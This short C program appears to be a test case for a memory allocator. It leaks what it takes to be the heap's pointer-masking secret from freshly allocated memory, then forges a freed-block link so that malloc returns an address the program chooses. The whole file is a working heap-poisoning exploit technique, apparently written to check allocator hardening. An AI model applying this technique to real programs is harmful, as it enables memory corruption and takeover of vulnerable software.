/* Looks for the secret in memory that malloc hands out, and if two neighbours look like it,
   writes a link to a freed block with it, so that malloc returns an address of the program's
   choice. */
#include "case.h"
static long target[8] __attribute__((aligned(16))) = {-1, 2, 3, 4, 5, 6, 7, 8};
int main(void) {
    static void *objects[100000];
    for (int i = 0; i < 100000; i++) objects[i] = malloc(16);
    for (int i = 0; i < 100000; i++) free(objects[i]);
    uint64_t *fresh = keep(malloc(480)), secret = 0;
    for (int i = 3; i < 58; i += 2)
        if (fresh[i] && fresh[i] == fresh[i + 2]) secret = fresh[i];
    if (!secret) return puts("no word is there twice"), 0;
    uint64_t *first = keep(malloc(2000)), *second = keep(malloc(2000));
    free(second);
    free(first);
    ((uint64_t *)keep(first))[0] = (uint64_t)target ^ secret;
    char *one = keep(malloc(2000)), *two = keep(malloc(2000));
    printf("the target %p; malloc returned %p and %p\n", (void *)target, (void *)one, (void *)two);
    return two == (char *)target;
}
